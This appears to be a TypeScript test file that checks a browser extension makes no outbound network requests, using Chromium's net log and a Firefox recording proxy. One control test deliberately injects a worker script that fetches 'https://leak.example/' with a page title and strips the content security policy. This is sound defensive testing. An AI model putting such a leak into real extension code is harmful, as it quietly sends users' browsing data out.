import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BUILT, OPTIONS } from '../../../scripts/drive/places';
import type { ShopTab } from '../../../scripts/drive/shopper';
import type { Case } from '../case';
import { Copy } from '../copies';
import { RecordingProxy } from '../recording-proxy';
import { addressOf, type Stage } from '../stage';
import { holds, shows } from '../wait';

const SHOPPED = ['amazon-product', 'amazon-grid', 'walmart-product-toner', 'amazon-product-drone'] as const;

export const NETWORK: readonly Case[] = [
  { name: "no request goes out: page, worker, popup and options, by the browser's own network log", only: 'chromium', prove: proveSilence },
  {
    name: 'no request goes out: page, worker, popup and options, by a proxy that Firefox sends everything through',
    only: 'firefox',
    prove: proveSilentFirefox,
  },
  { name: 'a build of ours whose worker speaks is seen by that proxy', only: 'firefox', prove: proveSeen },
];

/** Who a browser speaks to by itself: its maker. Nothing that a page or the extension asks for is excused by this. */
const OWN_ERRANDS = /^https?:\/\/[\w.-]+\.(?:google|googleapis|gvt1)\.com\//;

/**
 * The log tells of every request that reaches the network and who asked for it. Pages that the test serves do not reach it; a
 * page of the test's own server and what it fetches do, so that a log that tells nothing cannot pass.
 */
async function proveSilence(stage: Stage): Promise<void> {
  const folder = mkdtempSync(join(tmpdir(), 'withhold-net-log-'));
  const log = join(folder, 'net.json');
  const server = await listen();
  const control = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  const logged = await stage.openAnother({ args: [`--log-net-log=${log}`] });
  try {
    await useEverything(logged, stage.asked);
    const page = await logged.shopper.openPage(OPTIONS);
    await page.goto(control);
    await page.evaluate(`fetch('/fetched').then(answer => answer.text())`);
  } finally {
    await logged.close();
    server.close();
  }
  const requests = requestsIn(readFileSync(log, 'utf8'));
  rmSync(folder, { recursive: true, force: true });
  const byBrowser = requests.filter(({ initiator }) => initiator === 'not an origin').map(({ url }) => url);
  const byPages = requests.filter(({ initiator }) => initiator !== 'not an origin').map(({ url }) => url);
  assert.ok(byPages.includes(`${control}fetched`), 'the log does not tell what a page fetches');
  assert.deepEqual(
    byPages.filter(url => !url.startsWith(control)),
    [],
  );
  assert.deepEqual(
    byBrowser.filter(url => !OWN_ERRANDS.test(url)),
    [control],
  );
}

/** Firefox keeps no such log. Its own errands, to its maker, are known by their hosts. */
const FIREFOX_ERRANDS = /^(?:https?:\/\/)?[\w.-]+\.(?:mozilla\.(?:org|com|net)|firefox\.com)[:/]/;
const CONTROL = 'http://control.example/';

async function proveSilentFirefox(stage: Stage): Promise<void> {
  const proxy = await RecordingProxy.open();
  const watched = await stage.openAnother({ preferences: proxy.preferences() });
  try {
    await useEverything(watched, stage.asked);
    const page = await watched.shopper.openPage(OPTIONS);
    await page.goto(CONTROL);
    await page.evaluate(`fetch('/fetched').then(answer => answer.text())`);
  } finally {
    await watched.close();
    proxy.close();
  }
  assert.ok(proxy.asked.includes(`${CONTROL}fetched`), 'the proxy does not tell what a page fetches');
  assert.deepEqual(
    proxy.asked.filter(url => !url.startsWith(CONTROL) && !FIREFOX_ERRANDS.test(url)),
    [],
  );
}

/** What the proof above rests on: were there a request of the worker, it would be red. */
async function proveSeen(stage: Stage): Promise<void> {
  const proxy = await RecordingProxy.open();
  const copy = Copy.of('firefox');
  copy.write('leak.js', `fetch('https://leak.example/?title=Giant');`);
  copy.change(manifest => {
    manifest.background = { scripts: ['leak.js', ...(manifest.background as { scripts: string[] }).scripts], type: 'module' };
    delete manifest.content_security_policy;
  });
  const watched = await stage.openAnother({ extension: copy.folder, preferences: proxy.preferences() });
  try {
    await holds('the request of the worker', async () => proxy.asked.includes('leak.example:443'));
  } finally {
    await watched.close();
    proxy.close();
    copy.remove();
  }
}

/** Every part of the extension that runs code: content script, worker (stopped and started), popup, each of its pages. */
async function useEverything(stage: Stage, asked: readonly string[]): Promise<void> {
  const before = asked.length;
  for (const name of SHOPPED.slice(0, -1)) {
    const { page } = await stage.popup(await stage.visit(name));
    await page.close();
  }
  for (const path of ownPages()) await (await stage.shopper.openPage(path)).close();
  const options = await stage.shopper.openPage(OPTIONS);
  await shows(options, `document.querySelector('#source-uflpa') !== null && document.querySelector('#shops .row') !== null`);
  await options.click('#source-uflpa');
  await shows(options, `!document.querySelector('#source-uflpa').checked`);
  await stage.shopper.stopWorker();
  const last = await stage.visit(SHOPPED[SHOPPED.length - 1] ?? '');
  await assertOnlyPagesAsked(last, asked, before);
}

/** What is asked for from a shop's page goes to the test that serves it, and to no log: there the pages themselves may be asked for, and what the page asks. */
async function assertOnlyPagesAsked({ page }: ShopTab, asked: readonly string[], before: number): Promise<void> {
  await page.evaluate(`fetch('/fetched').catch(() => null).then(() => null)`);
  const fetched = new URL('/fetched', page.url()).href;
  assert.ok(asked.slice(before).includes(fetched), 'what a shop’s page fetches is not seen');
  const expected = new Set([...SHOPPED.map(addressOf), fetched]);
  assert.deepEqual(
    asked.slice(before).filter(url => !expected.has(url) && !url.endsWith('/favicon.ico')),
    [],
  );
}

function ownPages(): string[] {
  return readdirSync(BUILT.chromium, { recursive: true, encoding: 'utf8' }).filter(path => path.endsWith('.html'));
}

function listen(): Promise<Server> {
  return new Promise(done => {
    const server = createServer((_request, response) => response.end('control'));
    server.listen(0, '127.0.0.1', () => done(server));
  });
}

/** Every request that the log saw begin, and who asked for it: an origin, or `not an origin` for the browser itself. */
function requestsIn(text: string): { url: string; initiator: string }[] {
  const { constants, events } = JSON.parse(text) as {
    constants: { logEventTypes: Record<string, number> };
    events: { type: number; params?: { url?: string; initiator?: string } }[];
  };
  const begun = constants.logEventTypes.URL_REQUEST_START_JOB;
  return events.flatMap(({ type, params: { url, initiator } = {} }) =>
    type === begun && url !== undefined ? [{ url, initiator: initiator ?? 'unknown' }] : [],
  );
}
